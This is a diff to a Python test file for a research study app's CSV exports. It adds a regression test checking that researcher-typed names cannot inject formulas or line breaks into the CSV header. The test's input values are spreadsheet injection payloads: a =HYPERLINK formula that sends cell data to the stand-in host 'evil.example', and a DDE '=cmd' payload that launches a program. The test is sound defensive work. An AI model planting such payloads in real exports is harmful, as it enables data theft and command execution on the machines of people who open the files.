@@ -47,11 +47,11 @@ def run(study: Study, what: str, fmt: str = "csv", **kw: Any) -> str:
 
 
 def read_csv(text: str) -> tuple[list[str], pd.DataFrame]:
-    first = text.splitlines()[0]
+    first = text.splitlines()[0].strip('"')  # every README line is one quoted cell
     n = int(first.split()[1])
     assert first.endswith(f"skiprows={n})")
     header = text.splitlines()[:n]
-    assert all(line.startswith("#") for line in header)
+    assert all(line.removeprefix('"').startswith("#") for line in header)  # README lines are quoted cells
     return header, pd.read_csv(io.StringIO(text), skiprows=n, keep_default_na=False)
 
 
@@ -133,7 +133,7 @@ def test_a_pilot_studys_exports_carry_the_pilot_mark_in_header_and_file_name(
     client.force_login(researcher)
     response = client.get(reverse("reports:study_data_export", args=[study.slug, "transcripts", "csv"]))
     assert response["Content-Disposition"] == 'attachment; filename="test-study-PILOT-transcripts.csv"'
-    assert "PILOT: NOT FOR PUBLICATION" in b"".join(response.streaming_content).decode()
+    assert "PILOT: NOT FOR PUBLICATION" in b"".join(response).decode()
 
 
 def test_the_command_writes_the_file_given_with_out(study: Study, episode: Episode, tmp_path: Path) -> None:
@@ -256,6 +256,32 @@ def test_the_csv_exports_neutralise_formula_cells_and_leave_numbers_and_jsonl_al
     assert ratings["value"].tolist() == [60, 61, 62, 63, 64]
     raw = [json.loads(line) for line in run(study, "transcripts", "jsonl").splitlines()[1:]]
     assert raw[0]["text"].startswith("=HYPERLINK") and raw[0]["arm"] == "-Full history"  # JSON is not a spreadsheet
+
+
+def test_researcher_typed_names_cannot_put_formulas_or_line_breaks_into_the_csv_readme(
+    study: Study, episode: Episode
+) -> None:
+    """Issue 21: researcher-typed names injected formula cells into the CSV README lines, and a line break in a
+    metric statement broke the documented ``read_csv(skiprows=N)``."""
+    import csv
+
+    study.name = 'Memory, =HYPERLINK("http://evil.example/?"&A1,"click")'
+    study.save()
+    for i, arm in enumerate(study.arms.all()):
+        arm.name = f'=1+{i},"=cmd|' + "' /C calc'!A0"
+        arm.save()
+    metric = study.metrics.first()
+    assert metric is not None
+    metric.statement = "The bot\rremembered\r\nmy cat;@SUM(1,2)\u2028and\tmore\x0bthings"
+    metric.save()
+    text = run(study, "ratings")
+    header, table = read_csv(text)
+    assert list(table.columns)[:2] == ["worker", "episode"] and len(table) == Rating.objects.count()
+    cells = [cell for row in csv.reader(io.StringIO("\n".join(header))) for cell in row]
+    assert cells and all(cell.startswith("#") for cell in cells)  # one cell per line, never a formula
+    for separator in (";", "\t"):  # a spreadsheet that guesses another separator still sees one cell per line
+        cells = [c for row in csv.reader(io.StringIO("\n".join(header)), delimiter=separator) for c in row]
+        assert all(c.startswith("#") for c in cells), separator
 
 
 def test_the_header_names_the_drawn_gap_range_and_that_the_qc_arm_calls_no_model(
